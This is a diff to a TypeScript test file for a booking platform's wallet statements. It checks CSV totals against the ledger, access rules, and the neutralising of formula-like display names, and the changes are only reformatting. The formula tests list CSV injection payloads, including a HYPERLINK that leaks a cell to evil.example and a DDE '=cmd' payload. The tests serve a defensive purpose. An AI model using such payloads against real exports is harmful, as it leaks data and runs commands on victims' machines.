@@ -8,7 +8,17 @@
  */
 import { extractText } from 'unpdf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { acceptedBooking, bookingStatus, createBookingWorld, creditAvailable, dateInDays, must, page, payBooking, type BookingWorld } from '../support/bookings';
+import {
+  acceptedBooking,
+  bookingStatus,
+  createBookingWorld,
+  creditAvailable,
+  dateInDays,
+  must,
+  page,
+  payBooking,
+  type BookingWorld,
+} from '../support/bookings';
 import { parseCsv, runsAsFormula } from '../support/csv';
 import { startServer, type TestServer, type Visitor } from '../support/server';
 
@@ -78,7 +88,10 @@ async function post(lines: Line[]) {
   const tx = `test-${Math.random().toString(36).slice(2)}`;
   await must(w.admin, `mutation($data: [LedgerEntryCreateInput!]!) { createLedgerEntries(data: $data) { id } }`, {
     data: lines.map((l) => ({
-      transactionId: tx, account: l.account, amount: l.amount, createdAt: l.at,
+      transactionId: tx,
+      account: l.account,
+      amount: l.amount,
+      createdAt: l.at,
       ...(l.booking ? { booking: { connect: { id: l.booking } } } : {}),
       ...(l.talent ? { talent: { connect: { id: l.talent } } } : {}),
     })),
@@ -99,7 +112,11 @@ async function download(visitor: Visitor, path: string) {
 /** The "I alt" row of a statement CSV: gross, fee, moms, net, payouts in øre. */
 function csvTotals(bytes: Uint8Array) {
   expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM for Excel
-  const rows = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '').split('\r\n').map((row) => row.split(';'));
+  const rows = new TextDecoder()
+    .decode(bytes)
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .map((row) => row.split(';'));
   const total = rows.find((row) => row[0] === 'I alt')!;
   const [gross, fee, vat, net, payouts] = total.slice(2).map(ore);
   return { rows, totals: { gross, fee, vat, net, payouts } };
@@ -112,7 +129,11 @@ const thisMonth = () => {
 
 describe('the statement of a month equals the ledger', () => {
   it('this month: the paid bookings and the payoff, to the øre', async () => {
-    const bookings = await must(w.admin, `query($ids: [ID!]) { bookings(where: { id: { in: $ids } }) { commissionAmount talentAmount totalAmount } }`, { ids: bookingIds });
+    const bookings = await must(
+      w.admin,
+      `query($ids: [ID!]) { bookings(where: { id: { in: $ids } }) { commissionAmount talentAmount totalAmount } }`,
+      { ids: bookingIds },
+    );
     const fee = bookings.bookings.reduce((s: number, b: any) => s + b.commissionAmount, 0);
     const net = bookings.bookings.reduce((s: number, b: any) => s + b.talentAmount, 0);
     const { year, month } = thisMonth();
@@ -142,7 +163,11 @@ describe('the statement of a month equals the ledger', () => {
     const { rows, totals } = csvTotals(bytes);
     expect(totals.fee).toBe(19_500 + 6_000 + 12_000);
     expect(totals.net).toBe(110_500 + 34_000 + 68_000);
-    const month = (name: string) => rows.find((row) => row[0] === `${name} 2025`)!.slice(2).map(ore);
+    const month = (name: string) =>
+      rows
+        .find((row) => row[0] === `${name} 2025`)!
+        .slice(2)
+        .map(ore);
     expect(month('september')).toEqual([40_000, 6_000, 1_200, 34_000, 0]);
     expect(month('oktober')).toEqual([130_000, 19_500, 3_900, 110_500, 30_000]);
     expect(month('november')).toEqual([80_000, 12_000, 2_400, 68_000, 0]);
@@ -187,7 +212,7 @@ describe('only the talent and admins', () => {
     expect((await page(server.url, w.anonymous, '/wallet/statement')).status).toBe(302);
   });
 
-  it('an admin reads any talent\'s statement by id', async () => {
+  it("an admin reads any talent's statement by id", async () => {
     const res = await download(w.admin, `${path}&talent=${w.talent1.profileId}`);
     expect(res.status).toBe(200);
     expect(csvTotals(res.bytes).totals.net).toBe(110_500);
@@ -196,14 +221,36 @@ describe('only the talent and admins', () => {
 
 describe('a display name written as a formula', () => {
   // The name rule refuses these from the talent; an admin's edit (or an older row) still holds them.
-  const payloads = ['=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '  =1+1', '\n=1+1', '＝1+1'];
+  const payloads = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '  =1+1',
+    '\n=1+1',
+    '＝1+1',
+  ];
 
   it('arrives as text in the CSV, for the talent and for the admin', async () => {
-    const { updateTalentProfile } = await must(w.admin, `query($id: ID!) { updateTalentProfile: talentProfile(where: { id: $id }) { displayName } }`, { id: w.talent2.profileId });
+    const { updateTalentProfile } = await must(
+      w.admin,
+      `query($id: ID!) { updateTalentProfile: talentProfile(where: { id: $id }) { displayName } }`,
+      { id: w.talent2.profileId },
+    );
     try {
       for (const payload of payloads) {
-        await must(w.admin, `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`, { id: w.talent2.profileId, name: payload });
-        for (const [who, path] of [['talent', '/wallet/statement.csv?aar=2025&maaned=10'], ['admin', `/wallet/statement.csv?aar=2025&maaned=10&talent=${w.talent2.profileId}`]] as const) {
+        await must(
+          w.admin,
+          `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`,
+          { id: w.talent2.profileId, name: payload },
+        );
+        for (const [who, path] of [
+          ['talent', '/wallet/statement.csv?aar=2025&maaned=10'],
+          ['admin', `/wallet/statement.csv?aar=2025&maaned=10&talent=${w.talent2.profileId}`],
+        ] as const) {
           const res = await download(who === 'talent' ? w.talent2.visitor : w.admin, path);
           expect(res.status, who).toBe(200);
           const rows = parseCsv(new TextDecoder().decode(res.bytes));
@@ -214,7 +261,11 @@ describe('a display name written as a formula', () => {
         }
       }
     } finally {
-      await must(w.admin, `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`, { id: w.talent2.profileId, name: updateTalentProfile.displayName });
+      await must(
+        w.admin,
+        `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`,
+        { id: w.talent2.profileId, name: updateTalentProfile.displayName },
+      );
     }
   });
 });
